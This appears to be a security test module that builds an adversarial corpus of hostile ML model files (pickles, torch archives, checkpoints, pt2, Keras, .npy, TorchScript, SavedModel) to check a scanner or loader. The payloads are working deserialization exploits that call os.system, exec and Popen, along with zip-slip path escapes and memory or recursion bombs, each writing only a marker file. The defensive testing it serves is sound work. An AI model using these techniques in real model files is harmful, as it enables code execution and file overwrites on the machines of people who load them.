"""Adversarial corpus: hostile model files, each payload live (it writes a marker file if it ever runs).

Pure-Python payloads (pickles written opcode by opcode, ZIP archives written by hand, JSON edits of real
seed files) are made by :func:`build_pure`; payloads that need a framework to exist (TorchScript with
scripted code, Keras Lambda layers, a SavedModel whose signature writes a file) by
``python -m tests.security.corpus build-torch|build-tf OUT MARKER_DIR`` in a subprocess. Every payload
records in ``payloads.json``: its path, its marker, what it attacks (``exec``: code execution;
``memory``/``walk``: exhaustion; ``fs``: files outside the model) and whether ``--trust`` makes it run
(the live control).
"""
from __future__ import annotations

import json
import os
import pickle
import struct
import sys
from dataclasses import asdict, dataclass
from pathlib import Path

from . import mutators as M

ROOT = Path(__file__).resolve().parents[2]


@dataclass
class Payload:
    name: str
    path: str
    marker: str | None      # the file the payload creates when it runs
    attack: str             # exec, memory, walk, fs
    fmt: str                # the format row it belongs to
    trust_runs: str | None = None  # with --trust the marker appears on: "inspect", "compare" or None


# ---- pickles written by hand ----------------------------------------------------------------------------
def _str(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b   # BINUNICODE


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _touch_code(marker: str) -> str:
    return f"open({marker!r}, 'w').write('payload ran')"


def call_os_system(marker: str) -> bytes:
    return _global("posix", "system") + _str(f"touch '{marker}'") + b"\x85R"          # TUPLE1 REDUCE


def call_exec(marker: str) -> bytes:
    return _global("builtins", "exec") + _str(_touch_code(marker)) + b"\x85R"


def call_popen(marker: str) -> bytes:
    # subprocess.Popen(["touch", marker]).wait() is two calls; Popen alone starts it
    return _global("subprocess", "Popen") + b"(" + b"]" + b"(" + _str("touch") + _str(marker) + b"e" + b"tR"


def call_copyreg(marker: str) -> bytes:
    # copyreg._reconstructor(cls=Popen, base=Popen, state=[...]) calls Popen.__init__(obj, state)
    return (_global("copyreg", "_reconstructor") + _global("subprocess", "Popen") + _global("subprocess", "Popen")
            + b"]" + b"(" + _str("touch") + _str(marker) + b"e" + b"\x87R")          # TUPLE3 REDUCE


def call_partial(marker: str) -> bytes:
    # functools.partial(builtins.exec, code)() : REDUCE makes the partial, a second REDUCE calls it
    return _global("functools", "partial") + _global("builtins", "exec") + _str(_touch_code(marker)) + b"\x86R" \
        + b")R"


def in_dict(obj: bytes) -> bytes:
    # {"state_dict": {"w": 1}, "meta": {"note": <payload>}}
    return (b"}(" + _str("state_dict") + b"}(" + _str("w") + b"K\x01u" + _str("meta") + b"}(" + _str("note")
            + obj + b"uu")


def pickle_bytes(obj: bytes) -> bytes:
    return b"\x80\x02" + obj + b"."


MEMO_BOMB = b"\x80\x02Nr" + struct.pack("<I", 10**9) + b"."          # 9 bytes: memo slot 10**9


def self_ref_list() -> bytes:
    """A list that holds itself, in a dict that holds it again: a walk without a visited set never ends."""
    lst: list = []
    lst.append(lst)
    lst.append({"again": lst, "and": [lst, lst]})
    data = pickle.dumps({"state_dict": lst, "x": [lst] * 8, "y": {"z": lst}}, protocol=2)
    return data


def doubling_dag(levels: int = 64) -> bytes:
    """Level k is [level k-1, level k-1]: 2**levels paths through a few hundred bytes."""
    out = bytearray(b"\x80\x02]q\x00")          # EMPTY_LIST BINPUT 0
    for k in range(levels):
        out += b"(h" + bytes([k]) + b"h" + bytes([k]) + b"lq" + bytes([k + 1])  # MARK BINGET BINGET LIST BINPUT
    out += b"."
    return bytes(out)


def deep_nest(depth: int = 200_000) -> bytes:
    """A list nested ``depth`` deep: the unpickler builds it iteratively, a recursive walk overflows."""
    return b"\x80\x02" + b"]" * depth + b"a" * (depth - 1) + b"."


# ---- torch archives written by hand ---------------------------------------------------------------------
def torch_zip(root: str, data_pkl: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    members = [M.Member(f"{root}/data.pkl".encode(), data_pkl), M.Member(f"{root}/byteorder".encode(), b"little")]
    for k, v in (extra or {}).items():
        members.append(M.Member(f"{root}/{k}".encode(), v))
    members.append(M.Member(f"{root}/version".encode(), b"3\n"))
    members.append(M.Member(f"{root}/.data/serialization_id".encode(), b"1234567890"))
    return M.write_zip(members)


LEGACY_MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)


def torch_legacy(obj_pickle: bytes) -> bytes:
    # magic, protocol version, sys info, then the object (and the storage keys list after it)
    return (LEGACY_MAGIC + pickle.dumps(1001, protocol=2)
            + pickle.dumps({"protocol_version": 1001, "little_endian": True,
                            "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
            + obj_pickle + pickle.dumps([], protocol=2))


def ckpt(obj: bytes) -> bytes:
    # a Lightning-style checkpoint: epoch, state_dict, hyper_parameters holding the payload
    body = (b"}(" + _str("epoch") + b"K\x03" + _str("global_step") + b"K\x10" + _str("state_dict") + b"}"
            + _str("hyper_parameters") + b"}(" + _str("config") + obj + b"u" + b"u")
    return torch_zip("ckpt", pickle_bytes(body))


# ---- JSON / archive edits of real seeds -----------------------------------------------------------------
def _edit_zip(src: str, edit) -> bytes:
    members = M.read_members(Path(src).read_bytes())
    edit(members)
    return M.write_zip(members)


def _member(members, suffix: str) -> M.Member:
    return next(m for m in members if m.name.decode().endswith(suffix))


def pt2_sample_inputs(seed_pt2: str, marker: str) -> bytes:
    def edit(ms):
        m = _member(ms, "data/sample_inputs/model.pt")
        m.data = torch_zip("model", pickle_bytes(call_exec(marker)))
    return _edit_zip(seed_pt2, edit)


def pt2_guards(seed_pt2: str, marker: str) -> bytes:
    def edit(ms):
        m = _member(ms, "models/model.json")
        ep = json.loads(m.data)
        ep["guards_code"] = [f"__import__('builtins').exec({_touch_code(marker)!r})"]
        m.data = json.dumps(ep).encode()
    return _edit_zip(seed_pt2, edit)


def pt2_sympy(seed_pt2: str, marker: str) -> bytes:
    payload = f"__import__('builtins').exec({_touch_code(marker)!r})"

    def walk(o):
        n = 0
        if isinstance(o, dict):
            for k, v in o.items():
                if k == "expr_str" and isinstance(v, str):
                    o[k] = payload
                    n += 1
                else:
                    n += walk(v)
        elif isinstance(o, list):
            n += sum(walk(v) for v in o)
        return n

    def edit(ms):
        m = _member(ms, "models/model.json")
        ep = json.loads(m.data)
        if not walk(ep):  # no symbolic dims in this seed: add a range constraint with the payload
            ep.setdefault("range_constraints", {})[payload] = {"min_val": 1, "max_val": 8}
        m.data = json.dumps(ep).encode()
    return _edit_zip(seed_pt2, edit)


def zip_slip(seed: str, marker: str) -> bytes:
    """The seed archive plus members whose names climb out of any extraction folder to ``marker``."""
    def edit(ms):
        climb = "../" * 40 + marker.lstrip("/")
        ms.append(M.Member(climb.encode(), b"zip-slip member was written"))
        ms.append(M.Member(("/" + marker.lstrip("/")).encode(), b"absolute member was written"))
    return _edit_zip(seed, edit)


def keras_module_paths(seed_keras: str, marker: str) -> bytes:
    """config.json whose layers name modules and functions Keras would import and call."""
    def edit(ms):
        m = _member(ms, "config.json")
        cfg = json.loads(m.data)
        layers = cfg["config"]["layers"]
        target = next(l for l in layers if l.get("class_name") == "Dense")
        target["module"] = "builtins"
        target["class_name"] = "exec"
        target["registered_name"] = "builtins>exec"
        target["config"] = {"name": target["config"].get("name", "fc"), "source": _touch_code(marker)}
        act = next((l for l in layers if l.get("class_name") == "Dense" and l is not target), None)
        if act is not None:
            act["config"]["activation"] = {"module": "os", "class_name": "system", "config": f"touch '{marker}'",
                                           "registered_name": "os>system"}
        cfg.setdefault("compile_config", {})["loss"] = {"module": "posix", "class_name": "system",
                                                        "config": {"command": f"touch '{marker}'"}}
        m.data = json.dumps(cfg).encode()
    return _edit_zip(seed_keras, edit)


class _NpyEvil:
    """An object stored in an object array: unpickling it (``np.load(allow_pickle=True)``) runs exec."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (exec, (_touch_code(self.marker),))


def Evil_npy(folder) -> tuple[str, str]:  # noqa: N802 - named for what it makes
    """(path of an object-array .npy whose element runs code when unpickled, its marker)."""
    import numpy as np

    marker = os.path.join(str(folder), "npy.marker")
    path = os.path.join(str(folder), "evil.npy")
    arr = np.empty(1, dtype=object)
    arr[0] = _NpyEvil(marker)
    np.save(path, arr, allow_pickle=True)
    return path, marker


# ---- everything that needs no framework -----------------------------------------------------------------
def build_pure(out: str, marker_dir: str, seeds: dict[str, str]) -> list[Payload]:
    """Write the framework-free payloads into ``out``; ``seeds`` maps 'pt2'/'keras' to real seed files."""
    os.makedirs(out, exist_ok=True)
    os.makedirs(marker_dir, exist_ok=True)
    items: list[Payload] = []

    def add(name: str, data: bytes, attack: str, fmt: str, trust_runs=None, marker=True):
        path = os.path.join(out, name)
        with open(path, "wb") as f:
            f.write(data)
        items.append(Payload(name, path, os.path.join(marker_dir, name + ".marker") if marker else None, attack,
                             fmt, trust_runs))

    mk = lambda name: os.path.join(marker_dir, name + ".marker")  # noqa: E731
    calls = {"os_system": call_os_system, "exec": call_exec, "popen": call_popen, "copyreg": call_copyreg,
             "partial": call_partial}
    for label, fn in calls.items():
        add(f"pickle_{label}.pt", pickle_bytes(fn(mk(f"pickle_{label}.pt"))), "exec", "payload", "inspect")
    add("pickle_nested_dict.pth", pickle_bytes(in_dict(call_exec(mk("pickle_nested_dict.pth")))), "exec",
        "payload", "inspect")
    add("zip_data_pkl.pt", torch_zip("zip_data_pkl", pickle_bytes(in_dict(call_os_system(mk("zip_data_pkl.pt"))))),
        "exec", "torch.save zip", "inspect")
    add("zip_partial.pt", torch_zip("zip_partial", pickle_bytes(call_partial(mk("zip_partial.pt")))),
        "exec", "torch.save zip", "inspect")
    add("legacy_exec.pt", torch_legacy(pickle_bytes(in_dict(call_exec(mk("legacy_exec.pt"))))), "exec",
        "torch.save legacy", "inspect")
    add("hparams_exec.ckpt", ckpt(call_copyreg(mk("hparams_exec.ckpt"))), "exec", "ckpt", "inspect")
    add("memo_bomb.pt", MEMO_BOMB, "memory", "payload", marker=False)
    add("self_ref.pt", self_ref_list(), "walk", "payload", marker=False)
    add("doubling.pt", doubling_dag(), "walk", "payload", marker=False)
    add("deep_nest.pt", deep_nest(), "walk", "payload", marker=False)
    add("zip_memo_bomb.pt", torch_zip("zip_memo_bomb", MEMO_BOMB), "memory", "torch.save zip", marker=False)
    if "pt2" in seeds:
        add("pt2_sample_inputs.pt2", pt2_sample_inputs(seeds["pt2"], mk("pt2_sample_inputs.pt2")), "exec", "pt2")
        add("pt2_guards.pt2", pt2_guards(seeds["pt2"], mk("pt2_guards.pt2")), "exec", "pt2")
        add("pt2_sympy.pt2", pt2_sympy(seeds["pt2"], mk("pt2_sympy.pt2")), "exec", "pt2")
        add("pt2_zip_slip.pt2", zip_slip(seeds["pt2"], mk("pt2_zip_slip.pt2")), "fs", "pt2")
    if "keras" in seeds:
        add("keras_zip_slip.keras", zip_slip(seeds["keras"], mk("keras_zip_slip.keras")), "fs", "keras")
        add("keras_modules.keras", keras_module_paths(seeds["keras"], mk("keras_modules.keras")), "exec", "keras")
    return items


def fuzz_payload_seeds(out: str, marker_dir: str) -> list:
    """The pickle payloads as fuzz seeds (their markers in the run's marker folder)."""
    from .harness import Seed

    items = build_pure(out, marker_dir, {})
    kinds = {"payload": "pickle", "torch.save legacy": "pickle"}
    return [Seed(p.name, p.path, kinds.get(p.fmt, "zip"), "payload") for p in items
            if p.attack in ("exec", "memory") or p.name == "self_ref.pt"]


# ---- payloads that need a framework (built in a subprocess) --------------------------------------------
def _rewrite_ts(src: str, dst: str, old: bytes, new: bytes) -> None:
    def edit(ms):
        hits = [m for m in ms if b"/code/" in m.name and m.name.endswith(b".py") and old in m.data]
        assert len(hits) == 1, [m.name for m in ms]
        hits[0].data = hits[0].data.replace(old, new)
    Path(dst).write_bytes(_edit_zip(src, edit))


def build_torch(out: str, marker_dir: str) -> list[Payload]:
    import torch

    class Stateful(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.w = torch.nn.Parameter(torch.ones(4))

        def forward(self, x):
            return x * self.w

        @torch.jit.export
        def __getstate__(self):
            return (self.w, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[torch.Tensor, bool]):
            self.w = state[0]
            self.training = state[1]

    class Plain(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.lin = torch.nn.Linear(4, 3)

        def forward(self, x):
            return torch.relu(self.lin(x))

    os.makedirs(out, exist_ok=True)
    tmp = os.path.join(out, "_plain.pt")
    torch.jit.script(Plain()).save(tmp)
    tmp2 = os.path.join(out, "_stateful.pt")
    torch.jit.script(Stateful()).save(tmp2)
    items = []
    m1 = os.path.join(marker_dir, "ts_setstate.pt.marker")
    p1 = os.path.join(out, "ts_setstate.pt")
    _rewrite_ts(tmp2, p1, b"    self.training = (state)[1]\n",
                b"    self.training = (state)[1]\n    self.w = torch.add(self.w, torch.sum(torch.from_file(\""
                + m1.encode() + b"\", True, 16)))\n")
    items.append(Payload("ts_setstate.pt", p1, m1, "exec", "torchscript", "inspect"))
    m2 = os.path.join(marker_dir, "ts_forward.pt.marker")
    p2 = os.path.join(out, "ts_forward.pt")
    _rewrite_ts(tmp, p2, b"    return torch.relu((lin).forward(x, ))\n",
                b"    _m = torch.sum(torch.from_file(\"" + m2.encode() + b"\", True, 4))\n"
                b"    return torch.add(torch.relu((lin).forward(x, )), _m)\n")
    items.append(Payload("ts_forward.pt", p2, m2, "exec", "torchscript", "compare"))
    # the controls: the payloads are live (then the markers are removed again)
    torch.jit.load(p1)
    assert os.path.exists(m1), "the __setstate__ payload did not run under torch.jit.load"
    torch.jit.load(p2)(torch.ones(1, 4))
    assert os.path.exists(m2), "the forward payload did not run"
    for m in (m1, m2):
        os.remove(m)
    for t in (tmp, tmp2):
        os.remove(t)
    return items


def build_tf(out: str, marker_dir: str) -> list[Payload]:
    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
    import keras
    import tensorflow as tf

    os.makedirs(out, exist_ok=True)
    items = []
    for ext in ("keras", "h5"):
        name = f"lambda.{ext}"
        marker = os.path.join(marker_dir, name + ".marker")
        x = keras.Input((4,), name="x")
        h = keras.layers.Dense(3, name="fc")(x)
        fn = eval(f"lambda t: (open({marker!r}, 'w').write('ran'), t * 2.0)[1]")  # noqa: S307 - the payload
        y = keras.layers.Lambda(fn, name="double")(h)
        model = keras.Model(x, y)
        path = os.path.join(out, name)
        model.save(path)
        if os.path.exists(marker):
            os.remove(marker)  # building ran the lambda
        items.append(Payload(name, path, marker, "exec", "keras" if ext == "keras" else "h5"))

    marker = os.path.join(marker_dir, "writefile_savedmodel.marker")

    class Writer(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])
        def serve(self, x):
            tf.io.write_file(marker, tf.strings.as_string(tf.reduce_sum(x)))
            return {"y": x * 2.0}

    w = Writer()
    path = os.path.join(out, "writefile_savedmodel")
    tf.saved_model.save(w, path, signatures={"serving_default": w.serve})
    if os.path.exists(marker):
        os.remove(marker)
    items.append(Payload("writefile_savedmodel", path, marker, "exec", "savedmodel"))
    return items


def main(argv: list[str]) -> int:
    what, out, marker_dir = argv[1], argv[2], argv[3]
    os.makedirs(marker_dir, exist_ok=True)
    items = build_torch(out, marker_dir) if what == "build-torch" else build_tf(out, marker_dir)
    Path(out, f"{what}.json").write_text(json.dumps([asdict(p) for p in items], indent=1))
    return 0


if __name__ == "__main__":
    code = main(sys.argv)
    sys.stdout.flush()
    os._exit(code)
